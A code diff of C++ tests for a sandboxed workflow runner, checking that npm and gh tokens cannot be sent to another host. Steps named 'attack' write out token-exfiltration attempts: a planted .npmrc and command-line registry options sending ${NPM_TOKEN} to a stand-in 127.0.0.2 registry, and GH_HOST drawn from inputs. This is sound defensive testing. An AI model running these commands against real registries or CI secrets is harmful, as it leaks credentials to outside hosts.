@@ -10,6 +10,7 @@
 
 #include "engine/fixture.h"
 #include "tests/support/upstream.h"
+#include "tests/support/workflow_toml.h"
 
 namespace {
 
@@ -38,6 +39,15 @@ std::optional<std::string> registry_route(const UpstreamRequest& r) {
   return nlohmann::json{{"name", name}, {"dist-tags", {{"latest", "1.2.3"}}}, {"versions", {{"1.2.3", version}}}}.dump();
 }
 
+// A namespace step "attack" granted gh read-only with GH_ENTERPRISE_TOKEN,
+// running `run`; `input` declares the run's input and `env` (an inline
+// table) is gh's environment.
+std::string gh_workflow(const std::string& input, const std::string& env, const std::string& run) {
+  return workflow_toml({{.id = "attack", .run = run, .more = R"(commands = ["gh"])"}},
+                       sandbox_head("namespace") + "[inputs]\n" + input +
+                           "\n\n[commands.gh]\nsecrets = [\"GH_ENTERPRISE_TOKEN\"]\nenv = " + env + "\npreset = \"gh:read-only\"\n\n");
+}
+
 // The token's registry on 127.0.0.1 and another on 127.0.0.2, and a
 // workflow granting npm with `policy` to a step running `run`.
 struct NpmSetup {
@@ -46,26 +56,23 @@ struct NpmSetup {
   Upstream elsewhere{nullptr, "127.0.0.2"};
   std::unique_ptr<TempRepo> repo;
 
-  NpmSetup(const std::string& policy, const std::string& run) {
+  std::string policy;
+
+  NpmSetup(const std::string& policy, const std::string& run) : policy(policy) {
     registry.set_route(registry_route);
     elsewhere.set_route(registry_route);
-    repo = std::make_unique<TempRepo>(R"([sandbox]
-kind = "namespace"
-
-[commands.npm]
-secrets = ["NPM_TOKEN"]
-env = { NPM_CONFIG_REGISTRY = ")" + registry.url() + R"(/", NPM_CONFIG_UPDATE_NOTIFIER = "false" }
-)" + policy + R"(
-
-[[steps]]
-id = "attack"
-commands = ["npm"]
-run = '''
-)" + run + R"(
-'''
-)");
+    repo = std::make_unique<TempRepo>(workflow(run));
     repo->write("package.json", R"({"name": "hearth-demo", "version": "1.4.2"})");
   }
+  std::string workflow(const std::string& run) const {
+    return workflow_toml({{.id = "attack", .run = run + "\n", .more = R"(commands = ["npm"])"}},
+                         sandbox_head("namespace") + R"([commands.npm]
+secrets = ["NPM_TOKEN"]
+env = { NPM_CONFIG_REGISTRY = ")" + registry.url() + R"(/", NPM_CONFIG_UPDATE_NOTIFIER = "false" }
+)" + policy + "\n\n");
+  }
+  // The step runs `run` instead (a script that names the setup's ports).
+  void rewrite_run(const std::string& run) { repo->rewrite(workflow(run)); }
   std::string other() const { return elsewhere.url() + "/"; }
   std::string other_key() const { return "//127.0.0.2:" + std::to_string(elsewhere.port()) + "/:_authToken"; }
   hearth::testing::RunResult run() {
@@ -82,15 +89,13 @@ BOOST_AUTO_TEST_CASE(a_project_npmrc_behind_a_symlinked_directory_is_found_and_h
   // The step sends a cwd ("sub") that is a link to real/sub: beside the
   // logical path there is no .npmrc, but npm walks up from the physical
   // directory to real/, whose .npmrc routes @evil to another host with ${NPM_TOKEN}.
-  NpmSetup s(R"(preset = "npm:read-only")", "@RUN@");
+  NpmSetup s(R"(preset = "npm:read-only")", "true");
   std::string run = R"(mkdir -p real/sub && echo '{"name": "inner", "version": "1.0.0"}' > real/package.json
 printf '%s\n' '@evil:registry=)" + s.other() + "' '" + s.other_key() + R"(=${NPM_TOKEN}' > real/.npmrc
 ln -s real/sub sub
 cd real/sub && HEARTH_WORKSPACE=/workspace/real npm view @evil/x version || echo "npmrc=$?"
 cd /workspace && npm view left-pad version > view.txt)";
-  std::string wf = hearth::testing::read_file(s.repo->root() / "workflow.toml");
-  wf.replace(wf.find("@RUN@"), 5, run);
-  s.repo->rewrite(wf);
+  s.rewrite_run(run);
   auto r = s.run();
   std::string out = r.succeeded_output("attack");
   BOOST_TEST(has(out, "npmrc=126"), out);
@@ -105,16 +110,14 @@ cd /workspace && npm view left-pad version > view.txt)";
 BOOST_AUTO_TEST_CASE(npm_options_naming_another_registry_get_no_token) {
   // A grant written without the preset's deny list: the options pass the
   // patterns, so only where npm's token lives keeps it.
-  NpmSetup s(R"(allow = ["view *"])", "@RUN@");
+  NpmSetup s(R"(allow = ["view *"])", "true");
   std::string run = "npm view @evil/x version '--@evil:registry=" + s.other() + "' '--" + s.other_key() +
                     "=${NPM_TOKEN}' || echo \"scoped=$?\"\n"
                     "npm view left-pad version '-reg=" + s.other() + "' '--" + s.other_key() +
                     "=${NPM_TOKEN}' || echo \"reg=$?\"\n"
                     "npm view left-pad version --no-ignore-scripts || echo \"scripts=$?\"\n"
                     "npm view left-pad version > view.txt";
-  std::string wf = hearth::testing::read_file(s.repo->root() / "workflow.toml");
-  wf.replace(wf.find("@RUN@"), 5, run);
-  s.repo->rewrite(wf);
+  s.rewrite_run(run);
   auto r = s.run();
   std::string out = r.succeeded_output("attack");
   BOOST_TEST(!token_reached(s.elsewhere, kNpmToken));
@@ -136,22 +139,9 @@ BOOST_AUTO_TEST_CASE(a_gh_repo_from_an_input_cannot_send_the_token_to_another_ho
   std::string other_host = "127.0.0.2:" + std::to_string(elsewhere.port());
   ScopedEnv env({{"GH_ENTERPRISE_TOKEN", kGhToken}});
   // The docs' own example: the repository comes from the run's inputs.
-  TempRepo repo(R"([sandbox]
-kind = "namespace"
-
-[inputs]
-repo = { type = "string", default = "o/r" }
-
-[commands.gh]
-secrets = ["GH_ENTERPRISE_TOKEN"]
-env = { GH_HOST = ")" + host + R"(", GH_REPO = "${{ inputs.repo }}", SSL_CERT_FILE = ")" + ca.ca_pem + R"(" }
-preset = "gh:read-only"
-
-[[steps]]
-id = "attack"
-commands = ["gh"]
-run = 'gh issue view 12 --json title || echo "view=$?"'
-)");
+  TempRepo repo(gh_workflow(R"(repo = { type = "string", default = "o/r" })",
+                            R"({ GH_HOST = ")" + host + R"(", GH_REPO = "${{ inputs.repo }}", SSL_CERT_FILE = ")" + ca.ca_pem + R"(" })",
+                            R"(gh issue view 12 --json title || echo "view=$?")"));
   auto r = repo.run({{"repo", other_host + "/o/r"}});
   BOOST_TEST(r.outcome.status == RunStatus::failed);
   std::string reason = r.step("attack").reason;
@@ -170,22 +160,8 @@ run = 'gh issue view 12 --json title || echo "view=$?"'
 
 BOOST_AUTO_TEST_CASE(gh_settings_from_inputs_are_refused_before_gh_starts) {
   ScopedEnv env({{"GH_ENTERPRISE_TOKEN", kGhToken}});
-  TempRepo repo(R"([sandbox]
-kind = "namespace"
-
-[inputs]
-host = { type = "string", default = "ghe.example.com" }
-
-[commands.gh]
-secrets = ["GH_ENTERPRISE_TOKEN"]
-env = { GH_HOST = "${{ inputs.host }}" }
-preset = "gh:read-only"
-
-[[steps]]
-id = "attack"
-commands = ["gh"]
-run = 'gh issue view 12 --repo o/r || echo "view=$?"'
-)");
+  TempRepo repo(gh_workflow(R"(host = { type = "string", default = "ghe.example.com" })", R"({ GH_HOST = "${{ inputs.host }}" })",
+                            R"(gh issue view 12 --repo o/r || echo "view=$?")"));
   auto r = repo.run({{"host", "127.0.0.2:1"}});
   BOOST_TEST(r.outcome.status == RunStatus::failed);
   BOOST_TEST(has(r.step("attack").reason, "env 'GH_HOST' takes its value from ${{ }}"), r.step("attack").reason);
